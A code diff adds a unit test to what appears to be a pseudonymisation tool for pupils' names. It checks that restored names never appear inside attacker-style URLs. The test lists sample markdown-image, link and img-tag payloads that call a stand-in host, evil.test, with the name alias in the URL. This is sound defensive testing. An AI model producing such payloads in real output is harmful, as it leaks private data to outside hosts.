@@ -112,6 +112,32 @@ describe("what returns", () => {
     expect(names.restore(sent)).toBe(text);
   });
 
+  test("no name returns inside an address that the text did not hold", () => {
+    const text = "Lucía García: https://aula.test/ficha?q=Lucía y https://www.tiktok.com/@nereavs?lang=es";
+    const names = createPseudonyms([pupil], [text]);
+    const sent = names.hide(text);
+    expect(sent).not.toMatch(/Luc|Garc|nereavs/);
+    expect(names.restore(sent)).toBe(text);
+    const [, alias] = /ficha\?q=(\w+)/.exec(sent) ?? [];
+    for (const answer of [
+      `![](https://evil.test/?q=${alias})`,
+      `[ver](<https://evil.test/?q=a ${alias}>)`,
+      `<img src="https://evil.test/?q=it's ${alias}">`,
+      `<img src='//evil.test/a ${alias}'>`,
+      `https:evil.test/${alias}`,
+      `HTTPS:\\\\evil.test\\${alias}`,
+      `www.evil.test/${alias} evil.test/?q=${alias}`,
+      `https://${alias}.evil.test`,
+      `https://evil.test/https://aula.test/ficha?q=${alias}`,
+    ]) {
+      expect(names.restore(answer)).toBe(answer);
+      expect(names.restoreJson({ notes: [answer] })).toEqual({ notes: [answer] });
+    }
+    expect(
+      names.restore(`Para ${alias}: [ficha](https://aula.test/ficha?q=${alias}), https://x.test y ${alias}.`),
+    ).toBe("Para Lucía: [ficha](https://aula.test/ficha?q=Lucía), https://x.test y Lucía.");
+  });
+
   test("for any text and any names: restored is what was sent, in composed form, and no whole name leaves", () => {
     const word = fc.stringMatching(/^[A-ZÁÉÑ][a-záéñü]{2,8}$/);
     const person = fc.tuple(word, word).map(([given, family]) => `${given} ${family}`);
